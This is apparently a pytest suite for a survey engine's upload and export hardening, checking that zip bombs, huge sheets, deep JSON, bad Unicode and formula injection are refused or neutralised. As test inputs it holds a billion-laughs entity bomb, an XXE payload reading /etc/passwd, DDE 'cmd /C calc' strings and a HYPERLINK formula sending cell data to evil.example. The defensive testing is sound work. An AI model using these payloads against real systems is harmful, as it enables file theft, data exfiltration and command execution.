"""Issue 10, on the definition side: what a stranger's (or a careless colleague's) file
can cost, what it may hold, and what the definition download writes.

Finding 3: lone surrogates and Unicode non-characters in a definition are refused at
every entry (JSON and XLSForm uploads, the builder, the CLI) with the field named.
Finding 5: upload bombs (zip bombs, huge sheets, DTD entities, deep JSON) get a small,
clear 422 (or exit 1 in the CLI), never a 500, and at most 100 problems are listed.
Finding 10: every cell of the definition workbook is inert text, and the round trip
keeps labels that start with = + - @.
The bombs are built here: a valid workbook from openpyxl whose sheet XML is replaced.
"""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterable
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from survey_engine.catalog import find_survey
from survey_engine.definition.xlsform import MAX_CELLS, MAX_ROWS, XLSFormInvalid, read_xlsform
from survey_engine.definition.xlsform_package import MAX_COMPRESSION_RATIO, MAX_UNCOMPRESSED_BYTES
from survey_engine.definition.xlsform_writer import write_xlsform
from survey_engine.extensions import db
from survey_engine.models import Survey, SurveyVersion
from tests.conftest import DEMO_SLUG, demo_definition
from tests.test_admin_surveys import people, signed_in, upload  # noqa: F401 (fixture)
from tests.test_builder import question_form
from tests.test_cli import invoke, write_json

ROOT = Path(__file__).resolve().parent.parent
NEW = "/admin/surveys/new"
SHEET = "xl/worksheets/sheet1.xml"
HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)
HEADER_ROW = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>type</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>name</t></is></c>'
    '<c r="C1" t="inlineStr"><is><t>label</t></is></c></row>'
)
QUESTION_ROW = (
    '<row r="2"><c r="A2" t="inlineStr"><is><t>text</t></is></c>'
    '<c r="B2" t="inlineStr"><is><t>q</t></is></c>'
    '<c r="C2" t="inlineStr"><is><t>Q</t></is></c></row>'
)


def small_form(path: Path) -> Path:
    book = openpyxl.Workbook()
    book.active.title = "survey"
    book.active.append(["type", "name", "label"])
    book.active.append(["text", "q", "Q"])
    book.save(path)
    return path


def with_sheet(path: Path, chunks: Iterable[str | bytes], part: str = SHEET) -> Path:
    """A valid one-sheet XLSForm whose `part` is replaced by `chunks`, streamed into the
    zip (so a 40 MB sheet never sits in memory) at the strongest compression."""
    source = small_form(path.with_name("source-" + path.name))
    with (
        zipfile.ZipFile(source) as original,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb,
    ):
        for info in original.infolist():
            if info.filename != part:
                bomb.writestr(info.filename, original.read(info.filename))
        with bomb.open(part, "w", force_zip64=True) as stream:
            for chunk in chunks:
                stream.write(chunk.encode() if isinstance(chunk, str) else chunk)
    return path


def sheet(*rows: str, filler: Iterable[str] = (), dimension: str = "") -> list:
    return [HEAD, dimension, "<sheetData>", *rows, *filler, "</sheetData></worksheet>"]


def empty_rows(total_bytes: int) -> Iterable[str]:
    block = "<row/>" * 100_000
    for _ in range(total_bytes // len(block) + 1):
        yield block


def refusal(path: Path) -> XLSFormInvalid:
    with pytest.raises(XLSFormInvalid) as refused:
        read_xlsform(path)
    return refused.value


def error_items(html: str) -> list[str]:
    box = re.search(r'<div class="errors"[^>]*>(.*?)</div>', html, re.S)
    assert box, html[:2000]
    return re.findall(r"<li>(.*?)</li>", box.group(1), re.S)


def surveys_count() -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(Survey))


def versions_count() -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(SurveyVersion))


# ------------------------------------------------------------ finding 5: upload bombs


def test_finding5_zip_bomb_refused_from_the_zip_directory(people, tmp_path):
    """40 MB of empty rows in 40 KB: refused before openpyxl reads a byte of it, with a
    small page, on the web and in the CLI."""
    bomb = with_sheet(
        tmp_path / "bomb.xlsx", sheet(HEADER_ROW, QUESTION_ROW, filler=empty_rows(40 * 1024 * 1024))
    )
    assert bomb.stat().st_size < 1024 * 1024
    client = signed_in(people, "editor@example.org")
    reply = upload(client, NEW, "bomb.xlsx", bomb.read_bytes())
    assert reply.status_code == 422
    assert len(reply.get_data()) < 50_000
    [item] = error_items(reply.get_data(as_text=True))
    assert (
        "bảng tính khi giải nén có" in item
        and f"{MAX_UNCOMPRESSED_BYTES:,}".replace(",", ".") in item
    )
    assert surveys_count() == 1
    result = invoke(people, "import", str(bomb))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "the workbook unpacks to" in result.output


def test_finding5_compression_ratio_refused(tmp_path):
    bomb = with_sheet(
        tmp_path / "ratio.xlsx", sheet(HEADER_ROW, QUESTION_ROW, filler=empty_rows(5 * 1024 * 1024))
    )
    problem = refusal(bomb).problems[0]
    assert problem.startswith(f"{SHEET}: compressed ")
    assert f"at most {MAX_COMPRESSION_RATIO} to 1" in problem


def test_finding5_rows_beyond_the_limit_refused(people, tmp_path):
    """One cell at row 60,000: openpyxl yields 59,998 blank rows before it."""
    far = MAX_ROWS + 10_000
    path = with_sheet(
        tmp_path / "far.xlsx",
        sheet(
            HEADER_ROW,
            QUESTION_ROW,
            f'<row r="{far}"><c r="A{far}" t="inlineStr"><is><t>text</t></is></c></row>',
        ),
    )
    assert refusal(path).problems == [
        f"survey sheet: more than {MAX_ROWS:,} rows (blank rows included); at most that "
        "many are read"
    ]
    client = signed_in(people, "editor@example.org")
    reply = upload(client, NEW, "far.xlsx", path.read_bytes())
    assert reply.status_code == 422 and f"hơn {MAX_ROWS:,} dòng".replace(
        ",", "."
    ) in reply.get_data(as_text=True)


def test_finding5_cells_beyond_the_limit_refused(tmp_path):
    """A cell in column XFD makes a row of 16,384 cells; 62 such rows pass 1,000,000."""
    rows = [
        f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>x</t></is></c></row>'
        for n in range(3, 80)
    ]
    path = with_sheet(tmp_path / "wide.xlsx", sheet(HEADER_ROW, QUESTION_ROW, *rows))
    [problem] = refusal(path).problems
    assert problem.startswith("survey sheet, row ")
    assert f"more than {MAX_CELLS:,} cells" in problem


def test_finding5_stated_dimension_does_not_pad_the_sheet(tmp_path):
    """A sheet claiming A1:XFD1048576 made openpyxl pad every row, blank ones between
    included, to 16,384 cells: one cell at row 40,000 meant 655 million. It is read as
    the rows it holds. In a subprocess: before the fix it would run for many minutes."""
    path = with_sheet(
        tmp_path / "claims.xlsx",
        sheet(
            HEADER_ROW,
            QUESTION_ROW,
            '<row r="40000"><c r="A40000" t="inlineStr"><is><t>note</t></is></c></row>',
            dimension='<dimension ref="A1:XFD1048576"/>',
        ),
    )
    script = (
        "import sys\n"
        "from survey_engine.definition.xlsform import XLSFormInvalid, read_xlsform\n"
        "try:\n    read_xlsform(sys.argv[1])\n"
        "except XLSFormInvalid as e:\n    print('\\n'.join(e.problems))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=ROOT,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [
        "pages[0].questions[1].name: letters, digits and '_', starting with a letter, up to "
        "64 characters, got None (survey sheet, row 40000)",
        "pages[0].questions[1].label: is required (survey sheet, row 40000)",
    ]


def test_finding5_first_100_problems_and_the_count_of_the_rest(people, tmp_path):
    rows = [["type", "name", "label"]] + [["no-such-type", f"q{i}", "Q"] for i in range(3000)]
    path = tmp_path / "many.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "survey"
    for row in rows:
        book.active.append(row)
    book.save(path)
    refused = refusal(path)
    assert len(refused.problems) == 100 and refused.total == 3001  # + no pages at all
    assert (
        refused.problems[0] == "survey sheet, row 2, column type: 'no-such-type' is not supported"
    )

    client = signed_in(people, "editor@example.org")
    reply = upload(client, NEW, "many.xlsx", path.read_bytes())
    assert reply.status_code == 422 and len(reply.get_data()) < 60_000
    items = error_items(reply.get_data(as_text=True))
    assert len(items) == 101
    assert items[99].startswith("trang tính survey, dòng 101, cột type:")
    assert re.fullmatch(r"… (and|và) 2[.,]901 (more problems|lỗi nữa)\.", items[100]), items[100]

    result = invoke(people, "import", str(path))
    assert result.exit_code == 1
    assert "3,001 problem(s)" in result.output and "… and 2,901 more" in result.output
    assert result.output.count("  survey sheet, row") == 100


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    '2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;'
    '</t></is></c></row></sheetData></worksheet>'
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    'main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is>'
    '</c></row></sheetData></worksheet>'
)


@pytest.mark.parametrize(
    ("xml", "part"),
    [
        (BILLION_LAUGHS, SHEET),
        (EXTERNAL_ENTITY, SHEET),
        (EXTERNAL_ENTITY.encode("utf-16"), SHEET),
        (
            '<?xml version="1.0"?><!DOCTYPE Types SYSTEM "http://127.0.0.1:9/x.dtd"><Types xmlns='
            '"http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "[Content_Types].xml",
        ),
    ],
    ids=["billion-laughs", "external-entity", "utf-16", "content-types"],
)
def test_finding5_xml_with_a_doctype_refused(people, tmp_path, xml, part):
    path = with_sheet(tmp_path / "dtd.xlsx", [xml], part=part)
    assert refusal(path).problems == [
        f"{part}: the XML declares a DOCTYPE (entities); spreadsheet programs never write "
        "one, so it is refused"
    ]
    client = signed_in(people, "editor@example.org")
    reply = upload(client, NEW, "dtd.xlsx", path.read_bytes())
    assert reply.status_code == 422 and "DOCTYPE" in reply.get_data(as_text=True)
    assert surveys_count() == 1


def test_finding5_unreadable_sheet_xml_is_a_422(people, tmp_path):
    path = with_sheet(
        tmp_path / "broken.xlsx",  # the stated size reads, the rows do not
        [HEAD, '<dimension ref="A1"/><sheetData><row><c r="A1"'],
    )
    [problem] = refusal(path).problems
    assert problem.startswith("the workbook cannot be read: ")
    client = signed_in(people, "editor@example.org")
    assert upload(client, NEW, "broken.xlsx", path.read_bytes()).status_code == 422


def test_finding5_deeply_nested_json_is_a_422(people, tmp_path):
    deep = '{"format": "survey-engine/1", "title": ' + "[" * 5000 + "]" * 5000 + "}"
    client = signed_in(people, "editor@example.org")
    reply = upload(client, NEW, "deep.json", deep.encode())
    assert reply.status_code == 422
    [item] = error_items(reply.get_data(as_text=True))
    assert "32" in item
    result = invoke(
        people,
        "import",
        str(tmp_path.joinpath("deep.json"))
        if tmp_path.joinpath("deep.json").write_text(deep)
        else "",
    )
    assert result.exit_code == 1 and "JSON nested deeper than 32 levels" in result.output
    assert "Traceback" not in result.output


def test_finding5_json_problems_listed_first_100(people):
    data = {**demo_definition(), "slug": "nhieu-loi"}
    data["pages"][0]["questions"] = [{"name": f"q{i}", "type": "nope"} for i in range(500)]
    client = signed_in(people, "editor@example.org")
    reply = upload(client, NEW, "many.json", json.dumps(data).encode())
    assert reply.status_code == 422
    items = error_items(reply.get_data(as_text=True))
    assert len(items) == 101 and re.search(r"\d", items[100])


# ------------------------------------------------- finding 3: unencodable definitions


def test_finding3_definition_lone_surrogate_refused_in_json_upload(people):
    data = {**demo_definition(), "slug": "ky-tu-hong"}
    data["pages"][0]["questions"][0]["label"] = {"vi": "Bạn\ud800 là ai?"}
    body = json.dumps(data).encode()  # ASCII: the surrogate travels as \ud800
    assert b"\\ud800" in body
    client = signed_in(people, "editor@example.org")
    reply = upload(client, NEW, "s.json", body)
    assert reply.status_code == 422
    [item] = error_items(reply.get_data(as_text=True))
    # The staff page's language: Vietnamese (docs/staff.md); the path as it is.
    assert item.startswith("pages[0].questions[0].label.vi: ký tự thứ 4 là U+D800")
    assert find_survey("ky-tu-hong") is None and surveys_count() == 1


def test_finding3_definition_non_character_refused_in_json_keys_and_texts(people):
    data = {**demo_definition(), "slug": "phi-ky-tu"}
    data["title"] = "Khảo sát \ufdd0"
    data["choice_lists"]["x\U0010ffff"] = [{"name": "a", "label": "A"}]
    client = signed_in(people, "editor@example.org")
    reply = upload(client, NEW, "s.json", json.dumps(data, ensure_ascii=False).encode())
    assert reply.status_code == 422
    items = error_items(reply.get_data(as_text=True))
    assert any(i.startswith("title: ký tự thứ 10 là U+FDD0") for i in items), items
    assert any(i.startswith("choice_lists.x\\U0010ffff: tên này chứa") for i in items)
    assert find_survey("phi-ky-tu") is None


def test_finding3_definition_invalid_utf8_named_with_its_byte(people, tmp_path):
    raw = json.dumps({**demo_definition(), "slug": "utf"}).encode()
    raw = raw.replace(b'"utf"', b'"ut\xed\xa0\x80f"')  # a surrogate encoded as UTF-8
    position = raw.index(b"\xed") + 1
    client = signed_in(people, "editor@example.org")
    reply = upload(client, NEW, "s.json", raw)
    assert reply.status_code == 422
    [item] = error_items(reply.get_data(as_text=True))
    assert re.search(rf"\b{position:,}\b".replace(",", "[.,]"), item), item
    result = invoke(
        people,
        "import",
        str(tmp_path.joinpath("s.json")) if tmp_path.joinpath("s.json").write_bytes(raw) else "",
    )
    assert result.exit_code == 1 and f"byte {position:,} cannot be read" in result.output


def test_finding3_definition_non_character_refused_in_xlsform(people, tmp_path):
    path = tmp_path / "form.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "survey"
    book.active.append(["type", "name", "label"])
    book.active.append(["text", "q", "Tên\ufdd0"])
    book.active.append(["select_one l", "c", "Chọn"])
    choices = book.create_sheet("choices")
    choices.append(["list_name", "name", "label"])
    choices.append(["l", "a", "A\U0001fffe"])
    book.save(path)
    assert refusal(path).problems == [
        "pages[0].questions[0].label: character 4 is U+FDD0, which cannot be stored (NUL, a "
        "lone surrogate or a Unicode non-character): 'Tên\\ufdd0' (survey sheet, row 2)",
        "choice_lists.l[0].label: character 2 is U+1FFFE, which cannot be stored (NUL, a "
        "lone surrogate or a Unicode non-character): 'A\\U0001fffe' (choices sheet, row 2)",
    ]
    client = signed_in(people, "editor@example.org")
    reply = upload(client, NEW, "form.xlsx", path.read_bytes())
    assert reply.status_code == 422 and "U+FDD0" in reply.get_data(as_text=True)
    assert surveys_count() == 1


def test_finding3_definition_refused_in_cli_import(people, tmp_path):
    data = {**demo_definition(), "slug": "cli-\ud800"}
    before = versions_count()
    path = tmp_path / "s.json"
    path.write_text(json.dumps(data), encoding="ascii")  # the surrogate as \ud800
    result = invoke(people, "import", str(path))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "slug: character 5 is U+D800" in result.output
    data = {**demo_definition(), "slug": "cli-ok", "description": "\ufffe"}
    result = invoke(people, "import", str(write_json(tmp_path / "s.json", data)))
    assert result.exit_code == 1 and "description: character 1 is U+FFFE" in result.output
    assert versions_count() == before


def test_finding3_definition_refused_in_the_builder(people):
    client = signed_in(people, "editor@example.org")
    edit = f"/admin/surveys/{DEMO_SLUG}/edit"
    fields = question_form(client, "comment")
    fields["label.vi"] = "Ý kiến\ufdd0"
    reply = client.post(f"{edit}/questions/comment", data=fields)
    assert reply.status_code == 422
    assert "U+FDD0" in reply.get_data(as_text=True)
    db.session.expire_all()
    assert "\ufdd0" not in json.dumps(
        find_survey(DEMO_SLUG).versions[-1].definition, ensure_ascii=False
    )


def test_finding4_regex_from_an_answer_refused_in_the_builder(people):
    client = signed_in(people, "editor@example.org")
    edit = f"/admin/surveys/{DEMO_SLUG}/edit"
    fields = question_form(client, "comment")
    fields["constraint"] = "regex(., ${district})"
    reply = client.post(f"{edit}/questions/comment", data=fields)
    assert reply.status_code == 422
    html = reply.get_data(as_text=True)
    message = re.search(r'<p class="error" id="constraint-error">(.*?)</p>', html, re.S)
    assert message and "mẫu phải là một văn bản trong dấu nháy" in message.group(1)


# ---------------------------------------------- finding 10: the definition workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=A1",
]


def hostile_definition(blank_prefixes: bool = True) -> dict:
    """The demo with hostile texts; without `blank_prefixes`, no tab/CR-led ones (the
    reader trims blank space, so those do not come back unchanged)."""
    data = demo_definition()
    data["title"] = {"vi": HOSTILE[0], "en": HOSTILE[1]}
    data["description"] = HOSTILE[2]
    page = data["pages"][0]
    page["title"] = (
        HOSTILE[3]
        if not isinstance(page.get("title"), dict)
        else {**page["title"], "vi": HOSTILE[3]}
    )
    question = next(q for q in page["questions"] if "label" in q)
    question["label"] = (
        {**question["label"], "vi": HOSTILE[4]}
        if isinstance(question["label"], dict)
        else HOSTILE[4]
    )
    question["hint"] = HOSTILE[5] if blank_prefixes else "@x"
    question["constraint_message"] = HOSTILE[6] if blank_prefixes else "-x"
    first_list = next(iter(data["choice_lists"].values()))
    first_list[0]["label"] = (
        {**first_list[0]["label"], "vi": HOSTILE[7]}
        if isinstance(first_list[0]["label"], dict)
        else HOSTILE[7]
    )
    first_list[1]["label"] = (
        HOSTILE[0]
        if not isinstance(first_list[1]["label"], dict)
        else {**first_list[1]["label"], "vi": "+" + str(first_list[1]["label"]["vi"])}
    )
    return data


def assert_inert(path: Path) -> int:
    """Every cell of every sheet is a text, a number or true/false, none a formula; text that a
    spreadsheet would take for one carries Excel's quote prefix."""
    book = openpyxl.load_workbook(path)
    seen = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type in ("s", "n", "b"), (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    seen += 1
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name)
    return seen


def test_finding10_definition_workbook_cells_are_inert(people):
    data = hostile_definition()
    client = signed_in(people, "admin@example.org")
    reply = upload(
        client,
        f"/admin/surveys/{DEMO_SLUG}",
        "hostile.json",
        json.dumps(data, ensure_ascii=False).encode(),
    )
    assert reply.status_code == 302, reply.get_data(as_text=True)[:3000]
    reply = client.get(f"/admin/surveys/{DEMO_SLUG}/definition.xlsx")
    assert reply.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(reply.get_data()))
    survey = book["survey"]
    header = [c.value for c in survey[1]]
    name = next(q for q in data["pages"][0]["questions"] if "label" in q)["name"]
    row = next(r for r in survey.iter_rows(min_row=2) if r[1].value == name)
    label = row[header.index("label::Vietnamese (vi)")]
    assert label.value == "=1+1" and label.data_type == "s" and label.quotePrefix
    settings = book["settings"]
    title = [c for c in settings[2] if c.value == HOSTILE[0]]
    assert len(title) == 1 and title[0].data_type == "s"


def test_finding10_export_definition_is_inert_and_round_trips(people, tmp_path):
    data = hostile_definition()
    path = tmp_path / "hostile.xlsx"
    write_xlsform(data, path)
    assert assert_inert(path) >= 8
    back = read_xlsform(path)
    # Leading tab / CR are blank space, trimmed by the reader as in every cell.
    expected = json.loads(
        json.dumps(data).replace('"\\t=1+1"', '"=1+1"').replace('"\\r=1+1"', '"=1+1"')
    )
    assert back == expected

    data = {**hostile_definition(blank_prefixes=False), "slug": "doc-hai"}
    result = invoke(people, "import", str(write_json(tmp_path / "h.json", data)))
    assert result.exit_code == 0, result.output
    out = tmp_path / "out.xlsx"
    result = invoke(people, "export-definition", "doc-hai", "-o", str(out))
    assert result.exit_code == 0, result.output
    assert assert_inert(out) >= 8
    assert read_xlsform(out) == data
    # and the same file imports back as the same survey: no new version
    result = invoke(people, "import", str(out))
    assert result.exit_code == 0
    assert len(find_survey("doc-hai").versions) == 1


def test_finding5_upload_over_the_size_limit_says_so_on_the_upload_page(people):
    """Over ADMIN_UPLOAD_MAX_BYTES (8 MiB) the editor saw the citizens' 'shorten your
    answers' page; now the upload page, with the limit."""
    client = signed_in(people, "editor@example.org")
    big = b"{" + b" " * (8 * 1024 * 1024 + 1) + b"}"
    for url in (NEW, f"/admin/surveys/{DEMO_SLUG}"):
        reply = upload(client, url, "big.json", big)
        assert reply.status_code == 413
        [item] = error_items(reply.get_data(as_text=True))
        assert re.search(r"\b8 MB\b", item), item
    assert surveys_count() == 1
    analyst = signed_in(people, "analyst@example.org")
    assert upload(analyst, f"/admin/surveys/{DEMO_SLUG}", "big.json", big).status_code == 413


def test_finding5_reading_time_is_capped(tmp_path, monkeypatch):
    """The clock is checked on every row; with no time left, the first row stops it
    (the real limit, 15 s, is documented; waiting for it here would only slow the
    suite)."""
    from survey_engine.definition import xlsform

    monkeypatch.setattr(xlsform, "MAX_SECONDS", 0.0)
    assert refusal(small_form(tmp_path / "slow.xlsx")).problems == [
        "survey sheet, row 1: reading took more than 0 seconds; the workbook is too large"
    ]


def stored_before_the_checks(definition: dict) -> None:
    """A new draft of the demo holding `definition` as it is, unchecked: what a database
    written before these fixes may hold."""
    survey = find_survey(DEMO_SLUG)
    db.session.add(
        SurveyVersion(survey=survey, number=survey.versions[-1].number + 1, definition=definition)
    )
    db.session.commit()


def test_finding4_version_stored_with_a_pattern_from_an_answer_still_downloads(people):
    """regex(., ${q1}) was accepted before: such a version still downloads (the file then
    names the problem when imported) and publishing it is refused with a message."""
    data = demo_definition()
    question = next(q for q in data["pages"][0]["questions"] if q["type"] == "text" or "label" in q)
    question["constraint"] = "regex(., ${source})"
    stored_before_the_checks(data)
    client = signed_in(people, "admin@example.org")
    reply = client.get(f"/admin/surveys/{DEMO_SLUG}/definition.xlsx")
    assert reply.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(reply.get_data()))
    assert "regex(., ${source})" in [c.value for row in book["survey"].iter_rows() for c in row]
    from tests.test_admin_surveys import post

    reply = post(client, f"/admin/surveys/{DEMO_SLUG}/publish")
    assert reply.status_code == 302
    page = client.get(f"/admin/surveys/{DEMO_SLUG}").get_data(as_text=True)
    assert "mẫu phải là một văn bản trong dấu nháy" in page
    db.session.expire_all()
    assert find_survey(DEMO_SLUG).versions[-1].published_at is None


def test_finding3_definition_stored_with_a_lone_surrogate_still_downloads(people, tmp_path):
    """Only SQLite could store one (PostgreSQL's jsonb refuses \\ud800): the downloads
    write it escaped (JSON) or as U+FFFD (XLSForm) instead of failing."""
    if db.engine.dialect.name != "sqlite":
        pytest.skip("PostgreSQL never stored a lone surrogate")
    data = demo_definition()
    data["title"] = {**data["title"], "vi": "Khảo sát\ud800"}
    stored_before_the_checks(data)
    client = signed_in(people, "admin@example.org")
    reply = client.get(f"/admin/surveys/{DEMO_SLUG}/definition.json")
    assert reply.status_code == 200 and json.loads(reply.get_data()) == data
    reply = client.get(f"/admin/surveys/{DEMO_SLUG}/definition.xlsx")
    assert reply.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(reply.get_data()))
    assert "Khảo sát\ufffd" in [c.value for row in book["settings"].iter_rows() for c in row]
    out = tmp_path / "d.json"
    result = invoke(people, "export-definition", DEMO_SLUG, "-o", str(out))
    assert result.exit_code == 0 and json.loads(out.read_text("ascii")) == data
